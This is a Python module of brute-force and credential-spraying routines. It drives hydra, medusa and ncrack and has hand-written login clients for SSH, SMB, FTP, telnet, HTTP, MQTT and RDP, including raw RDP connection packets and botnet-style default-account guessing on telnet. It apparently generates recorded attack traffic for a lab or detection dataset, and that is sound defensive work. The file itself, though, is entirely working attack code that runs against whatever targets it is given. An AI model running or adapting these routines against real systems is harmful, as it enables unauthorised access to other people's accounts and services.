"""Guessing passwords: hydra, medusa, ncrack and small clients; one account or many, fast or one try in a while."""

from __future__ import annotations

import base64
import contextlib
import ftplib
import http.client
import ssl
import struct
from typing import TYPE_CHECKING
from urllib.parse import urlencode

from .bounds import MAX_SECONDS, addresses, spread, tool, words
from .clients import SSH
from .plan import PASSWORD, TLS_PORTS, USER

if TYPE_CHECKING:
    from .context import Context

FORM = "/login:user=^USER^&pass=^PASS^:S=302"
_USERS = ("admin", "root", "user", "guest", "service", "operator", "nurse", "backup", "test", "support", "scanner",
          "dicom", "hl7", "oracle", "postgres", "pi", "ftp", "www", "monitor", "reception")  # fmt: skip


def _lists(ctx: Context, users: int, tries: int, success: bool) -> tuple[str, str, int]:
    """Files of user names and of passwords; with `success` the right one comes last."""
    who = [USER] if users <= 1 else [*_USERS[: users - 1], USER]
    what = words(ctx, tries) + ([PASSWORD] if success else [])
    salt = ctx.rng.randrange(10**9)
    paths = ctx.work / f"u.{ctx.host.name}.{salt}", ctx.work / f"p.{ctx.host.name}.{salt}"
    for path, lines in zip(paths, (who, what), strict=True):
        path.write_text("\n".join(lines) + "\n")
    return str(paths[0]), str(paths[1]), len(what)


def guess_hydra(
    ctx: Context,
    targets: list[str],
    service: str,
    tries: int = 100,
    users: int = 1,
    threads: int = 4,
    wait: float = 0,
    by_password: bool = False,
    success: bool = False,
    form: str = FORM,
    port: int = 0,
    seconds: float = 100,
) -> None:
    """hydra: `by_password` sprays each password over all users; `wait` is seconds between tries of one thread.

    It waits six seconds for answers instead of its 32, or few connections fit a recording.
    """
    who, what, _ = _lists(ctx, users, tries, success)
    module = {"get": "/admin/", "form": form}.get(service.rsplit("-", 1)[-1], "")
    flags = ["-c", str(wait)] if wait and not by_password else ["-W", str(int(wait))] if wait else []
    flags += ["-u"] * by_password + (["-s", str(port)] if port else [])
    for target in addresses(targets):
        tool(ctx, ["hydra", "-I", "-w", "6", "-L", who, "-P", what, "-t", str(threads), *flags, target, service,
                   *([module] if module else [])], seconds / len(targets))  # fmt: skip


def guess_medusa(
    ctx: Context,
    targets: list[str],
    module: str,
    tries: int = 100,
    users: int = 1,
    threads: int = 2,
    hosts: int = 1,
    success: bool = False,
    extra: str = "",
    seconds: float = 100,
) -> None:
    """medusa: `hosts` of the targets at once, `threads` logins on each."""
    who, what, _ = _lists(ctx, users, tries, success)
    where = ctx.work / f"h.{ctx.host.name}"
    where.write_text("\n".join(addresses(targets)) + "\n")
    tool(ctx, ["medusa", "-b", "-H", str(where), "-U", who, "-P", what, "-M", module, "-t", str(threads),
               "-T", str(hosts), "-R", "1", "-r", "1", "-v", "4", *extra.split()], seconds)  # fmt: skip


def guess_ncrack(
    ctx: Context,
    targets: list[str],
    service: str,
    tries: int = 100,
    users: int = 1,
    options: str = "CL=4,at=1",
    timing: int = 3,
    success: bool = False,
    seconds: float = 100,
) -> None:
    """ncrack: `options` are its per-service ones (CL connections at once, at tries on each, cd delay)."""
    who, what, _ = _lists(ctx, users, tries, success)
    tool(ctx, ["ncrack", f"-T{timing}", "-U", who, "-P", what, *(["-f"] * success), "-g", options,
               *(f"{service}://{t}" for t in addresses(targets))], seconds)  # fmt: skip


def guess_ssh(
    ctx: Context, targets: list[str], tries: int = 30, period: float = 3, threads: int = 1, seconds: float = 110
) -> None:
    """The ordinary ssh client with a wrong password each time: one try in a while, over several hosts."""

    def one(address: str, word: str) -> None:
        user = ctx.rng.choice([USER, *_USERS])
        tool(ctx, ["sshpass", "-p", word, "ssh", *SSH, f"{user}@{address}", "id"], 12)

    found = addresses(targets)
    pairs = [(found[n % len(found)], w) for n, w in enumerate(words(ctx, tries))]
    spread(ctx, (lambda a=a, w=w: one(a, w) for a, w in pairs), 1 / period, threads, seconds)


def guess_smb(
    ctx: Context, targets: list[str], tries: int = 100, users: int = 1, rate: float = 1.5, threads: int = 2,
    seconds: float = 100,
) -> None:  # fmt: skip
    """smbclient with a wrong password each time."""

    def one(address: str, number: int, word: str) -> None:
        user = [USER, *_USERS][number % users]
        tool(ctx, ["smbclient", "-p", "445", "-U", f"{user}%{word}", "-g", "-L", f"//{address}"], 8)

    jobs = (lambda a=a, n=n, w=w: one(a, n, w) for n, w in enumerate(words(ctx, tries)) for a in addresses(targets))
    spread(ctx, jobs, rate, threads, seconds)


def guess_ftp(
    ctx: Context,
    targets: list[str],
    tries: int = 80,
    rate: float = 1,
    threads: int = 1,
    success: bool = False,
    seconds: float = 110,
) -> None:
    """FTP with stolen pairs: another user and password on each connection, the right one last where it succeeds."""

    def one(address: str, user: str, word: str) -> None:
        with contextlib.suppress(EOFError, ftplib.Error), ftplib.FTP(timeout=6) as ftp:
            ftp.connect(address)
            ftp.login(user, word)
            ftp.retrlines("LIST", lambda _: None)

    pairs = [(ctx.rng.choice(_USERS), w) for w in words(ctx, tries)] + [(USER, PASSWORD)] * success
    jobs = (lambda a=a, u=u, w=w: one(a, u, w) for u, w in pairs for a in addresses(targets))
    spread(ctx, jobs, rate, threads, seconds)


def guess_telnet(
    ctx: Context,
    targets: list[str],
    tries: int = 60,
    rate: float = 2,
    threads: int = 2,
    per_connection: int = 1,
    seconds: float = 110,
) -> None:
    """Default accounts of devices tried on telnet, as botnets of small devices do."""

    def one(address: str) -> None:
        if s := ctx.connect(address, 23, 3):
            with s:
                s.settimeout(4)
                for _ in range(per_connection):
                    for line in (ctx.rng.choice(_USERS), ctx.rng.choice(words(ctx, 5))):
                        if not s.recv(500):
                            return
                        s.sendall(line.encode() + b"\r\n")
                s.recv(500)

    jobs = (lambda a=a: one(a) for _ in range(tries) for a in addresses(targets))
    spread(ctx, jobs, rate, threads, seconds)


def guess_http(
    ctx: Context,
    targets: list[str],
    port: int = 443,
    tries: int = 150,
    rate: float = 3,
    threads: int = 2,
    form: bool = True,
    users: int = 20,
    per_connection: int = 1,
    success: bool = False,
    agent: str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    seconds: float = 110,
) -> None:
    """Stolen or sprayed pairs on a login form or on basic authentication, over HTTP or TLS."""
    pairs = [(_USERS[n % min(users, len(_USERS))], w) for n, w in enumerate(words(ctx, tries))]
    pairs += [(USER, PASSWORD)] * success

    def some(address: str, batch: list[tuple[str, str]]) -> None:
        made: http.client.HTTPConnection = (
            http.client.HTTPSConnection(address, port, timeout=6, context=ssl._create_unverified_context())
            if port in TLS_PORTS
            else http.client.HTTPConnection(address, port, timeout=6)
        )
        with contextlib.closing(made), contextlib.suppress(http.client.HTTPException):
            for user, word in batch:
                headers = {"User-Agent": agent}
                if form:
                    headers["Content-Type"] = "application/x-www-form-urlencoded"
                    made.request("POST", "/login", urlencode({"user": user, "pass": word}), headers)
                else:
                    headers["Authorization"] = "Basic " + base64.b64encode(f"{user}:{word}".encode()).decode()
                    made.request("GET", "/admin/", headers=headers)
                made.getresponse().read()

    batches = [pairs[n : n + per_connection] for n in range(0, len(pairs), per_connection)]
    jobs = (lambda a=a, b=b: some(a, b) for b in batches for a in addresses(targets))
    spread(ctx, jobs, rate, threads, seconds)


def guess_mqtt(
    ctx: Context,
    targets: list[str],
    tries: int = 150,
    rate: float = 4,
    threads: int = 2,
    port: int = 1883,
    success: bool = False,
    seconds: float = 110,
) -> None:
    """MQTT logins with other users and passwords each, plain or over TLS."""
    from .mqtt_wire import connect, leave

    def one(address: str, user: str, word: str) -> None:
        with connect(ctx, address, port, (user, word)) as s:
            leave(s)

    pairs = [(ctx.rng.choice([USER, *_USERS]), w) for w in words(ctx, tries)] + [(USER, PASSWORD)] * success
    jobs = (lambda a=a, u=u, w=w: one(a, u, w) for u, w in pairs for a in addresses(targets))
    spread(ctx, jobs, rate, threads, seconds)


def guess_rdp(
    ctx: Context, targets: list[str], tries: int = 100, rate: float = 2, threads: int = 1, seconds: float = 110
) -> None:
    """The start of a remote desktop login, again and again: X.224 request with the user's name, then TLS."""
    quiet = ssl._create_unverified_context()

    def one(address: str, user: str) -> None:
        if s := ctx.connect(address, 3389, 3):
            with s:
                s.settimeout(4)
                cookie = f"Cookie: mstshash={user}\r\n".encode() + struct.pack("<BBHI", 1, 0, 8, 3)
                body = struct.pack(">BBHHB", 6 + len(cookie), 0xE0, 0, 0, 0) + cookie
                s.sendall(struct.pack(">BBH", 3, 0, len(body) + 4) + body)
                if len(s.recv(100)) < 4:
                    return
                with quiet.wrap_socket(s) as inner:
                    inner.sendall(ctx.rng.randbytes(ctx.rng.randint(120, 500)))  # where the credentials would go
                    inner.recv(500)

    jobs = (lambda a=a: one(a, ctx.rng.choice(_USERS)) for _ in range(tries) for a in addresses(targets))
    spread(ctx, jobs, rate, threads, min(seconds, MAX_SECONDS))
